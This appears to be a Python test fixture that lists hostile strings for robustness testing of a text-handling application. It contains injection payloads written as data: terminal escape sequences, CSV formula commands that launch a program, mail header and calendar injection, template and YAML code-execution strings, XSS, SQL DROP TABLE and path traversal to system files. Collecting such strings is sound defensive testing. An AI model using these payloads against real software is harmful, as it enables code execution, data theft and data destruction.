"""Strings that have broken other programs: markup, control sequences, bidi, formulas, headers, paths, sizes."""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """One string: its name, itself, and what of it has to be seen as it is."""

    name: str
    text: str
    visible: str = ""


HOSTILE: tuple[Hostile, ...] = (
    Hostile("style", "[bold red]Qstyle[/]", "[bold red]Qstyle[/]"),
    Hostile("click_quit", "[@click=app.quit]Qclick[/]", "[@click=app.quit]Qclick"),
    Hostile("click_bell", "[@click=app.bell]Qbell[/]", "[@click=app.bell]Qbell"),
    Hostile("click_file", "[@click=app.screenshot('qpwn.svg','.')]Qshot[/]", "[@click=app.screenshot"),
    Hostile("click_key", "[@click=app.simulate_key('ctrl+q')]Qkey[/]", "[@click=app.simulate_key"),
    Hostile("close_nothing", "[/]Qclose", "[/]Qclose"),
    Hostile("mismatch", "Qmis[/bold]", "Qmis[/bold]"),
    Hostile("unclosed", "Qunc [/", "Qunc [/"),
    Hostile("unclosed_b", "Qub [b", "Qub [b"),
    Hostile("company_brackets", "Qco [Acme] Inc. [c++]", "Qco [Acme] Inc. [c++]"),
    Hostile("json_list", 'Qj ["a", 1]', 'Qj ["a", 1]'),
    Hostile("link_tag", "[link=https://evil.example]Qlink[/link]", "[link=https://evil"),
    Hostile("variable", "$primary ${x} Qvar", "Qvar"),
    Hostile("emoji_code", "Qem :bomb: :warning:", ":bomb:"),
    Hostile("backslash_end", "Qbs\\", "Qbs\\"),
    Hostile("backslash_tag", "Qbt \\[b]x", "Qbt \\[b]x"),
    Hostile("osc52", "Qosc\x1b]52;c;UFdORUQ=\x1b\\Z", "Qosc"),
    Hostile("osc0_title", "Qttl\x1b]0;PWNED\x1b\\Z", "Qttl"),
    Hostile("osc8_link", "Q8\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\", "Q8"),
    Hostile("csi_clear", "Qcls\x1b[2J\x1b[H", "Qcls"),
    Hostile("csi_report", "Qdsr\x1b[6n\x1b[c", "Qdsr"),
    Hostile("csi_altoff", "Qalt\x1b[?1049l\x1b[?25h", "Qalt"),
    Hostile("c1_csi", "Qc1\x9b31mred", "Qc1"),
    Hostile("c1_osc", "Qc1o\x9d0;PWNED\x9c", "Qc1o"),
    Hostile("bell_bs", "Qbel\x07\x08\x08\x08XX", "Qbel"),
    Hostile("cr_overwrite", "Qcr\rHIDDEN", "Qcr"),
    Hostile("nul", "Qnul\x00tail", "Qnul"),
    Hostile("del_c0", "Qc0\x01\x02\x1f\x7f", "Qc0"),
    Hostile("bidi_rlo", "Qbidi \u202egnp.exe\u202c", "Qbidi"),
    Hostile("bidi_isolate", "Qiso \u2067abc\u2069\u2066", "Qiso"),
    Hostile(
        "rtl_plain", "Qrtl \u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd \u0645\u0631\u062d\u0628\u0627", "Qrtl"
    ),
    Hostile("zwsp", "Qzw\u200b\u200d\ufeff\u2060end", "Qzw"),
    Hostile(
        "zalgo",
        "Qza\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334a\u0301\u0489\u0334",
        "Qz",
    ),
    Hostile(
        "emoji_zwj",
        "Qe \U0001f469\U0001f3fd\u200d\U0001f4bb\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308\U0001f1e9\U0001f1ea",
        "Qe",
    ),
    Hostile(
        "cjk_wide",
        "Qw \u682a\u5f0f\u4f1a\u793e\u30a4\u30f3\u30bf\u30d3\u30e5\u30fc\u9762\u63a5\uff57\uff49\uff44\uff45",
        "Qw",
    ),
    Hostile("nfd_nfc", "Qnf Cafe\u0301 / Caf\xe9", "Qnf"),
    Hostile("homoglyph", "Qh \u0410cme (Cyrillic A) vs Acme", "Qh"),
    Hostile("line_sep", "Qls a\u2028b\u2029c\x85d", "Qls"),
    Hostile("newlines", "Qnl1\nQnl2\r\nQnl3\tTab", "Qnl1"),
    Hostile("lone_surrogate", "Qsur\ud800x", ""),
    Hostile("nonchar", "Qnc\ufffe\uffff\U0010ffff", "Qnc"),
    Hostile("private_tag", "Qtag\U000e0041\U000e0042\U000e007f", "Qtag"),
    Hostile("long_1k", "Qlong" + "x" * 1000, "Qlong"),
    Hostile("long_1m", "Qmega" + "y" * 1000000, "Qmega"),
    Hostile("many_lines", "Qml" + "\nline" * 20000, "Qml"),
    Hostile("empty", "", ""),
    Hostile("spaces", "   ", ""),
    Hostile("csv_eq", '=HYPERLINK("http://evil.example?x="&A1,"Qcsv")', "Qcsv"),
    Hostile("csv_plus", "+1+cmd|' /C calc'!A0 Qcsv", "Qcsv"),
    Hostile("csv_minus", "-2+3+cmd|' /C calc'!A0 Qcsv", "Qcsv"),
    Hostile("csv_at", "@SUM(1+1)*cmd|' /C calc'!A0 Qcsv", "Qcsv"),
    Hostile("csv_tab", "\t=1+1 Qcsv", ""),
    Hostile("csv_cr", "\r=1+1 Qcsv", ""),
    Hostile("csv_quote", 'Qq "a",b;c\'', "Qq"),
    Hostile("mail_crlf", "Qm\r\nBcc: evil@example.com\r\n\r\nbody", "Qm"),
    Hostile("mailto_params", "a@b.example?bcc=evil@example.com&body=Qmt", "Qmt"),
    Hostile("ics_inject", "Qics\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:file:///etc/passwd", "Qics"),
    Hostile("ics_escape", "Qie a;b,c\\n:d", "Qie"),
    Hostile(
        "jinja",
        "Qji {{7*7}} {{''.__class__.__mro__[1].__subclasses__()}} {% for x in range(10**9) %}{% endfor %}",
        "Qji {{7*7}}",
    ),
    Hostile("pyformat", "Qpf {0.__class__} %s %(x)s {home} $HOME `id`", "Qpf {0.__class__} %s"),
    Hostile("markdown", "Qmd [x](javascript:alert(1)) ![i](http://evil.example/i.png) <script>", "Qmd"),
    Hostile("html", "Qht <img src=x onerror=alert(1)> & < >", "Qht <img"),
    Hostile("yaml", "Qy: !!python/object/apply:os.system ['id']", "Qy: !!python"),
    Hostile("sql", "Qs'); DROP TABLE application;--", "Qs'); DROP TABLE"),
    Hostile("fts_syntax", 'Qfts "AND NEAR( * OR ^ -', "Qfts"),
    Hostile("like_wild", "Ql 100%_\\", "Ql 100%_"),
    Hostile("regex", "Qre (a+)+$ [z-a] \\", "Qre"),
    Hostile("path_dotdot", "../../../../tmp/Qpwn", ""),
    Hostile("path_abs", "/etc/cron.d/Qpwn", ""),
    Hostile("path_nul", "Qp\x00.txt", ""),
    Hostile("path_win", "CON", ""),
    Hostile("path_stream", "Qp.txt:ads", ""),
    Hostile("path_dash", "--output=Qp", ""),
    Hostile("path_tilde", "~root/Qp", ""),
    Hostile(
        "path_long",
        "QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ",
        "",
    ),
    Hostile("path_dots", "..", ""),
    Hostile("path_hidden", ".bashrc", ""),
    Hostile("path_slash_uni", "Q\u2215etc\u2044x", ""),
)
